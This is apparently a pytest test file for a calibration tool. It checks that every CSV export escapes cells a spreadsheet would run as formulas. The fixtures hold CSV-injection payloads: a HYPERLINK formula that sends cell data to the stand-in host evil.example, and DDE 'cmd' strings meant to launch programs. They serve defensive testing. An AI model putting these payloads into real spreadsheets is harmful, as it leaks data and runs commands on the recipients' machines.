"""No CSV the product writes holds a cell a spreadsheet would run as a formula (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from calibration.csv_cells import FORMULA_STARTS, neutralise_cell, restore_cell
from calibration.responses import Annotations

ROOT = Path(__file__).resolve().parents[1]
GUIDELINE = ROOT / "guidelines" / "contract-clauses" / "1.0.0.yaml"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=2+2",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_safe(text: str) -> None:
    runnable = [cell for cell in _cells(text) if cell.startswith(FORMULA_STARTS) and not _number(cell)]
    assert runnable == []


@pytest.mark.parametrize("value", [*HOSTILE, "'=already quoted", "'", "''x"])
def test_a_neutralised_cell_is_text_and_restores_exactly(value: str) -> None:
    written = neutralise_cell(value)
    assert written.startswith("'")
    assert restore_cell(written) == value


@pytest.mark.parametrize("value", ["plain", "", "it's", "a=b", 3, -1.5, None])
def test_other_cells_are_left_as_they_are(value: object) -> None:
    assert neutralise_cell(value) == value
    assert restore_cell(value) == value


@pytest.fixture(scope="module")
def hostile_round():
    from calibration.demo import simulate_responses
    from calibration.guidelines.loading import load_guideline
    from calibration.responses import item_rules_frame

    guideline = load_guideline(GUIDELINE)
    responses = simulate_responses(guideline, annotators=len(HOSTILE), seed=1)
    names = dict(zip(sorted(responses["annotator_id"].unique()), HOSTILE, strict=True))
    responses["annotator_id"] = responses["annotator_id"].map(names)
    responses["comment"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(responses))]
    item_rules = item_rules_frame({item.id: item.rules for item in guideline.items})
    gold = pd.Series({item.id: item.answer for item in guideline.items if item.answer is not None})
    return guideline, responses, item_rules, gold


def test_responses_csv_is_safe_and_reads_back_unchanged(hostile_round, tmp_path: Path) -> None:
    from calibration.interop.csv_reader import read_responses_csv
    from calibration.interop.exports import responses_csv

    guideline, responses, _, _ = hostile_round
    text = responses_csv(responses, guideline.task.type)
    _assert_safe(text)
    assert "'=HYPERLINK(" in text
    path = tmp_path / "responses.csv"
    path.write_text(text)
    back = read_responses_csv(path)
    assert sorted(back["annotator_id"].unique()) == sorted(HOSTILE)


def test_an_imported_export_keeps_the_comments_as_written(hostile_round) -> None:
    from calibration.interop.exports import responses_csv
    from calibration.interop.tables import read_long_csv

    guideline, responses, _, _ = hostile_round
    raw = read_long_csv(responses_csv(responses, guideline.task.type).encode(), "r.csv", guideline)
    assert {r.comment for r in raw.responses} == {h.strip() for h in HOSTILE}  # cells are stripped


def test_scores_and_agreement_csv_are_safe(hostile_round) -> None:
    from calibration.interop.exports import agreement_csv
    from calibration.reports.analysis import analyse_round
    from calibration.reports.exports import scores_csv

    guideline, responses, item_rules, gold = hostile_round
    data = Annotations(responses=responses, item_rules=item_rules, gold=gold, guideline=guideline)
    analysis = analyse_round(data, bootstrap=0)
    scores = scores_csv(analysis)
    _assert_safe(scores)
    first_column = {row[0] for row in csv.reader(io.StringIO(scores))}
    assert first_column >= {"'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0", "'\r=1+1"}
    _assert_safe(agreement_csv(data, bootstrap=0))


def test_gold_csv_is_safe() -> None:
    from calibration.guidelines.loading import load_guideline
    from calibration.interop.exports import gold_csv, gold_records

    guideline = load_guideline(GUIDELINE)
    records = gold_records(guideline)
    records[0] = {**records[0], "why": HOSTILE[0], "input": {"text": "-1 sneaky"}, "source": "@x"}
    text = gold_csv(records, guideline.task.type)
    _assert_safe(text)
    assert "'=HYPERLINK(" in text and "'-1 sneaky" in text


def test_cli_export_responses_is_safe(
    hostile_round, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from calibration.cli.main import main
    from calibration.rounds import service
    from calibration.storage.engine import make_engine, upgrade

    guideline, responses, _, _ = hostile_round
    url = f"sqlite:///{tmp_path / 'c.db'}"
    engine = make_engine(url)
    upgrade(engine)
    service.publish_guideline(engine, guideline)
    service.create_pilot_round(engine, "p", guideline.ref, actor=service.SYSTEM)
    service.import_responses(engine, "p", responses, actor=service.SYSTEM, source="test")
    out = tmp_path / "out.csv"
    assert main(["export", "responses", "p", "-o", str(out), "--database-url", url]) == 0
    text = out.read_text()
    _assert_safe(text)
    assert "'=HYPERLINK(" in text


def test_cli_export_gold_is_safe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from calibration.cli.main import main

    folder = tmp_path / "contract-clauses"
    folder.mkdir()
    text = GUIDELINE.read_text()
    first_why = text.index("    why: ", text.index("\nitems:"))
    line_end = text.index("\n", first_why)
    hostile = text[:first_why] + '    why: \'=HYPERLINK("http://evil.example","x")\'' + text[line_end:]
    (folder / "1.0.0.yaml").write_text(hostile)
    out = tmp_path / "gold.csv"
    assert main(["export-gold", "--guideline", str(folder / "1.0.0.yaml"), "-o", str(out)]) == 0
    written = out.read_text()
    _assert_safe(written)
    assert "'=HYPERLINK(" in written
